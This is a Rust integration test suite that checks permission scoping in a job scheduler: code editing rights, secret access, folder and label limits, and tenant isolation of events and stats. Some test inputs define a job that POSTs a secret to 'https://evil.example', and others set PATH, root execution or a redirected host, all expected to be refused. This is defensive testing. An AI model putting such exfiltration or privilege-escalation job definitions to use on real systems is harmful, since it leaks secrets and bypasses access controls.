//! What a part of the rights is worth: editing without code or secrets, one folder of a tenant, one label.

use std::sync::Arc;

use engine::Change;
use expect_test::expect;
use model::{ShardId, Verdict};
use reqwest::Method;
use serde_json::{Value, json};
use store::Store;
use store::sqlite::{Options, SqliteStore};

use crate::streams::Reader;
use crate::world::{Told, World, names};

impl World {
    async fn role(&self, name: &str, permissions: &[&str]) {
        self.put(&format!("/roles/{name}"), json!({"permissions": permissions})).await.good();
    }

    async fn apply_as(&self, who: &str, yaml: &str) -> Told {
        let body = json!({"files": [{"name": "jobs.yaml", "text": yaml}]});
        self.as_who(who, Method::POST, "/jobs/apply", body).await
    }

    async fn see(&self, who: &str, path: &str) -> Told {
        self.as_who(who, Method::GET, path, Value::Null).await
    }
}

/// A refusal of an apply that names what is missing.
fn lacks(told: &Told, permission: &str) {
    let refusal = told.refusal();
    assert!(refusal.starts_with("403 E0602") && refusal.contains(&format!("needs {permission}")), "{refusal}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn whoever_may_only_edit_brings_no_code_and_changes_none() {
    let world = World::new().await;
    world.role("editor", &["job.see", "job.edit"]).await;
    let eve = world.person("eve", &[json!({"role": "editor"})]).await;
    for brought in [
        "sh: date",
        "python: print(1)",
        "command: [date]",
        "pool: app\nexecutor: {glue: shell, source: date}",
        "pool: app\nexecutor: {glue: python, source: print(1)}",
    ] {
        lacks(&world.apply_as(&eve, &format!("job: new\n{brought}\n")).await, "job.code");
    }
    for harmless in ["noop: true", "http: https://example.com/", "pool: app\nexecutor: demoJobHandler"] {
        world.apply_as(&eve, &format!("job: harmless\n{harmless}\n")).await.good();
    }
    // What there is may get another schedule, and nothing that makes it run otherwise or elsewhere.
    let report = "job: report\nsh: date\nfolder: etl\n";
    world.apply(report).await.good();
    for (text, allowed) in [
        ("every: 1h", true),
        ("params: {region: west}", true),
        ("timeout: 5m", true),
        ("retry: 3", true),
        ("env: {PATH: /tmp/mine}", false),
        ("env_pass: [HOME]", false),
        ("cwd: /tmp", false),
        ("run_as: root", false),
        ("pool: production", false),
        ("variables: {tool: mine}", false),
        ("labels: {team: mine}", false),
    ] {
        let told = world.apply_as(&eve, &format!("{report}{text}\n")).await;
        if allowed { drop(told.good()) } else { lacks(&told, "job.code") }
    }
    lacks(&world.apply_as(&eve, "job: report\nsh: id\nfolder: etl\n").await, "job.code");
    lacks(&world.apply_as(&eve, "job: report\nsh: date\nfolder: hr\n").await, "job.code");
    assert_eq!(world.get("/jobs/report").await.good()["body"]["sh"], "date");
    world.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_is_used_by_those_who_may_know_of_it() {
    let world = World::new().await;
    world.put("/secrets/prod", json!({"value": "not to be told"})).await.good();
    world.put("/secrets/wages", json!({"value": "not to be told", "folder": "hr"})).await.good();
    world.role("editor", &["job.see", "job.edit"]).await;
    world.role("coder", &["job.see", "job.edit", "job.code"]).await;
    let eve = world.person("eve", &[json!({"role": "editor"})]).await;
    let cy = world.person("cy", &[json!({"role": "coder"})]).await;
    let call = |url: &str, secret: &str| {
        format!("job: call\nhttp: {{url: \"{url}\", method: POST, body: \"${{secret.{secret}}}\"}}\n")
    };
    // Whether there is such a secret is not to be found out either.
    let of_one = world.apply_as(&eve, &call("https://evil.example", "prod")).await;
    let of_none = world.apply_as(&eve, &call("https://evil.example", "nothing")).await;
    lacks(&of_one, "secret.see");
    assert_eq!(of_one.refusal(), of_none.refusal());
    lacks(&world.apply_as(&cy, "job: mine\nsh: env\nsecrets: {P: prod}\n").await, "secret.see");

    let base = call("https://example.com", "prod");
    world.apply(&base).await.good();
    world.apply_as(&eve, &format!("{base}every: 1h\n")).await.good();
    lacks(&world.apply_as(&eve, &call("https://evil.example", "prod")).await, "secret.see");
    lacks(&world.apply_as(&eve, &format!("{base}variables: {{host: evil.example}}\n")).await, "secret.see");
    world.apply("job: load\nsh: date\nsecrets: {P: prod}\n").await.good();
    lacks(&world.apply_as(&cy, "job: load\nsh: env\nsecrets: {P: prod}\n").await, "secret.see");
    world.apply_as(&cy, "job: load\nsh: env\n").await.good();

    // A developer of one folder uses what jobs there may use.
    let dev = world.person("dev", &[json!({"role": "developer", "folder": "etl"})]).await;
    world.apply_as(&dev, "job: mine\nfolder: etl\nsh: env\nsecrets: {P: prod}\n").await.good();
    let foreign = world.apply_as(&dev, "job: mine\nfolder: etl\nsh: env\nsecrets: {P: wages}\n").await.refusal();
    assert!(foreign.contains("E0954"), "{foreign}");
    // Labels are given by whoever writes the job, and secrets have none.
    let team = world.person("team", &[json!({"role": "developer", "labels": {"team": "a"}})]).await;
    let taken = "job: take\nfolder: hr\nlabels: {team: a}\nsh: env\nsecrets: {P: wages}\n";
    lacks(&world.apply_as(&team, taken).await, "secret.see");
    world.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn code_that_may_be_written_in_one_folder_is_not_moved_into_another() {
    let world = World::new().await;
    world.role("editor", &["job.see", "job.edit"]).await;
    world.role("coder", &["job.code"]).await;
    let grants = [
        json!({"role": "editor", "folder": "a"}),
        json!({"role": "editor", "folder": "b"}),
        json!({"role": "coder", "folder": "b"}),
    ];
    let eve = world.person("eve", &grants).await;
    world.apply_as(&eve, "job: mine\nfolder: b\nsh: id\n").await.good();
    lacks(&world.apply_as(&eve, "job: mine\nfolder: a\nsh: id\n").await, "job.code");
    lacks(&world.apply_as(&eve, "job: other\nfolder: a\nsh: id\n").await, "job.code");
    let outside = world.apply_as(&eve, "job: mine\nfolder: c\nsh: id\n").await.refusal();
    assert!(outside.contains("would lie outside of what you may change (job.edit)"), "{outside}");
    world.apply("job: theirs\nfolder: a\nsh: date\n").await.good();
    world.apply_as(&eve, "job: theirs\nfolder: b\nsh: id\n").await.good();
    lacks(&world.apply_as(&eve, "job: theirs\nfolder: a\nsh: id\n").await, "job.code");
    world.stop().await;
}

/// Two jobs, one in reach and one out of it, each with an instance that has printed something.
async fn two_jobs(world: &World) -> (i64, i64) {
    world.apply("job: own\nfolder: etl/nightly\nlabels: {team: a}\nnoop: true\n").await.good();
    world.apply("job: foreign\nfolder: etl2\nlabels: {team: b}\nnoop: true\n").await.good();
    let agent = world.agent("a1").await;
    let (own, foreign) = (world.trigger("own").await, world.trigger("foreign").await);
    for id in [own, foreign] {
        world.report(agent, id, Verdict::Failed).await;
        world
            .until(async |world: &World| {
                world.get(&format!("/instances/{id}")).await.good()["ended_at"].as_str().map(|_| ())
            })
            .await;
    }
    (own, foreign)
}

/// Everything there is to do with jobs and instances, for somebody who has all of it within a place.
async fn stays_within(world: &World, who: &str, (own, foreign): (i64, i64)) {
    assert_eq!(names(&world.see(who, "/jobs").await.good(), "name"), ["own"]);
    assert_eq!(names(&world.see(who, "/instances").await.good(), "id"), [own.to_string()]);
    for path in ["", "/versions", "/next", "/why", "/export", "/variables"] {
        assert_eq!(world.see(who, &format!("/jobs/own{path}")).await.status, 200, "{path}");
        let told = world.see(who, &format!("/jobs/foreign{path}")).await.refusal();
        assert!(told.starts_with("404 E0301"), "{path}: {told}");
    }
    for path in ["", "/attempts", "/why"] {
        assert_eq!(world.see(who, &format!("/instances/{own}{path}")).await.status, 200, "{path}");
        let told = world.see(who, &format!("/instances/{foreign}{path}")).await.refusal();
        assert!(told.starts_with("404 E0401"), "{path}: {told}");
    }
    let of_none = world.see(who, "/instances/7777777/log").await.refusal().replace("7777777", "N");
    let of_foreign = world.see(who, &format!("/instances/{foreign}/log")).await.refusal();
    assert_eq!(of_foreign.replace(&foreign.to_string(), "N"), of_none);
    let act = async |path: &str| world.as_who(who, Method::POST, path, json!({})).await;
    for path in ["trigger", "pause", "resume", "disable", "enable", "release"] {
        let told = act(&format!("/jobs/foreign/{path}")).await.refusal();
        assert!(told.starts_with("404 E0301"), "{path}: {told}");
    }
    for path in ["stop", "rerun"] {
        let told = act(&format!("/instances/{foreign}/{path}")).await.refusal();
        assert!(told.starts_with("404 E0401"), "{path}: {told}");
    }
    let replayed = world.as_who(who, Method::POST, "/instances/replay", json!({"ids": [foreign]})).await.good();
    assert_eq!(replayed["replayed"], json!([]), "{replayed}");
    // Neither taken, moved nor deleted.
    let taken = world.apply_as(who, "job: foreign\nfolder: etl\nlabels: {team: a}\nnoop: true\n").await.refusal();
    assert!(taken.contains("outside of what you may change"), "{taken}");
    let body = json!({"files": [], "prune": true});
    let pruned = world
        .as_who(who, Method::POST, "/jobs/apply", json!({"dry_run": true, "prune": true, "files": body["files"]}))
        .await
        .good();
    assert_eq!(pruned["items"].as_array().unwrap().iter().map(|item| &item["job"]).collect::<Vec<_>>(), ["own"]);
    let deleted = world.as_who(who, Method::DELETE, "/jobs/foreign", Value::Null).await.refusal();
    assert!(deleted.starts_with("404 E0301"), "{deleted}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_right_for_one_folder_is_for_nothing_beside_it() {
    let world = World::new().await;
    let jobs = two_jobs(&world).await;
    let dev = world.person("dev", &[json!({"role": "developer", "folder": "etl"})]).await;
    stays_within(&world, &dev, jobs).await;
    // Pools, agents and the rest of a tenant lie in no folder.
    for path in ["/agents", "/pools", "/resources", "/xxl-tokens", "/grants", "/audit"] {
        assert_eq!(world.see(&dev, path).await.status, 403, "{path}");
    }
    world.put("/secrets/key", json!({"value": "not to be told", "folder": "etl"})).await.good();
    world.put("/secrets/wages", json!({"value": "not to be told", "folder": "hr"})).await.good();
    world.apply("job: user\nfolder: etl/nightly\nsh: date\nsecrets: {K: key}\n").await.good();
    let seen = world.see(&dev, "/secrets").await.good();
    assert_eq!((names(&seen, "name"), &seen["items"][0]["used_by"]), (vec!["key".to_owned()], &json!(["user"])));

    // Who sees secrets of a folder sees only those jobs by name that they see anyway.
    world.role("keeper", &["secret.see", "secret.edit"]).await;
    let grants = [json!({"role": "keeper", "folder": "etl"}), json!({"role": "viewer", "folder": "etl/other"})];
    let kim = world.person("kim", &grants).await;
    let seen = world.see(&kim, "/secrets").await.good();
    assert_eq!((names(&seen, "name"), &seen["items"][0]["used_by"]), (vec!["key".to_owned()], &json!([])));
    let drop_it =
        async |name: &str| world.as_who(&kim, Method::DELETE, &format!("/secrets/{name}"), Value::Null).await.refusal();
    assert_eq!(drop_it("wages").await.replace("wages", "N"), drop_it("nothing").await.replace("nothing", "N"));
    let put = world.as_who(&kim, Method::PUT, "/secrets/wages", json!({"value": "of my own", "folder": "etl"})).await;
    expect!["403 E0602 there is a secret wages outside of what you may change"].assert_eq(&put.refusal());

    // Followers elsewhere are counted, and not named.
    world.apply("job: after_own\nfolder: etl2\nafter: own\nnoop: true\n").await.good();
    let followed = world.as_who(&dev, Method::DELETE, "/jobs/own", Value::Null).await.refusal();
    expect!["409 E0308 job own is followed by a job out of your sight"].assert_eq(&followed);
    let plan = world.as_who(&dev, Method::POST, "/jobs/apply", json!({"dry_run": true, "prune": true})).await.good();
    let followers: Vec<&Value> = plan["items"].as_array().unwrap().iter().map(|item| &item["followers"]).collect();
    assert!(followers.contains(&&json!(["a job out of your sight"])), "{plan}");
    world.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_right_for_one_label_is_for_nothing_without_it() {
    let world = World::new().await;
    let jobs = two_jobs(&world).await;
    let dev = world.person("dev", &[json!({"role": "developer", "labels": {"team": "a"}})]).await;
    stays_within(&world, &dev, jobs).await;
    let unlabelled = world.apply_as(&dev, "job: new\nnoop: true\n").await.refusal();
    assert!(unlabelled.contains("would lie outside of what you may change (job.edit)"), "{unlabelled}");
    world.apply_as(&dev, "job: new\nlabels: {team: a, more: b}\nnoop: true\n").await.good();
    world.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn events_of_other_folders_and_of_the_installation_are_not_heard() {
    let world = World::new().await;
    world.apply("job: own\nfolder: etl\nnoop: true\n").await.good();
    world.apply("job: foreign\nfolder: hr\nnoop: true\n").await.good();
    let dev = world.person("dev", &[json!({"role": "developer", "folder": "etl"})]).await;
    let mut theirs = Reader::open_as(&world, &dev, "/events", None).await;
    let mut everything = Reader::open(&world, "/events", None).await;
    world.agent("a1").await;
    world.trigger("foreign").await;
    // Something broke while nobody knew which job it was about: the text may hold anything of any tenant's.
    let latest = world.running.app.ring.latest().expect("something was committed");
    let now = world.running.app.clock.now();
    let held = Change::Quarantined {
        job: None,
        input: "Tick".into(),
        error: "in a job of somebody's".into(),
        at: now,
        decided: now,
    };
    world.running.app.ring.push(Arc::new(engine::Commit { changes: vec![held], ..(*latest).clone() }));
    world.trigger("own").await;
    assert_eq!(everything.until("job_held").await.body["message"], "in a job of somebody's");
    let first = theirs.next().await.expect("the stream goes on");
    assert_eq!((first.name.as_str(), &first.body["job"]), ("instance_created", &json!("own")), "{first:?}");
    world.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn jobs_held_elsewhere_are_not_counted() {
    let world = World::new().await;
    world.post("/tenants", json!({"name": "acme"})).await.good();
    world.apply("job: broken\nmanual: true\nnoop: true\n").await.good();
    let job = model::JobId(world.get("/jobs/broken").await.good()["id"].as_i64().unwrap());
    let dir = world.stop().await;
    let mut store = SqliteStore::open(dir.path(), &Options::default()).unwrap();
    let own = store.take_over(ShardId(0)).unwrap();
    let at = model::Timestamp(1);
    let held = Change::Quarantined { job: Some(job), input: "Tick".into(), error: "it broke".into(), at, decided: at };
    let commit = engine::Commit {
        shard: ShardId(0),
        term: own.term,
        batch: model::Batch(own.standing.batch.0 + 1),
        horizon: own.standing.horizon,
        next_id: own.standing.next_id,
        changes: vec![held],
        claims: Vec::new(),
    };
    store.commit(&commit).unwrap();
    drop(store);
    let world = World::start(dir).await;
    let held = async |tenant: &str| {
        let asked = world.request(Method::GET, "/stats").bearer_auth(crate::world::TOKEN).header("duly-tenant", tenant);
        world.send(asked).await.good()["jobs"]["held"].clone()
    };
    assert_eq!((held("default").await, held("acme").await), (json!(1), json!(0)));
    world.stop().await;
}
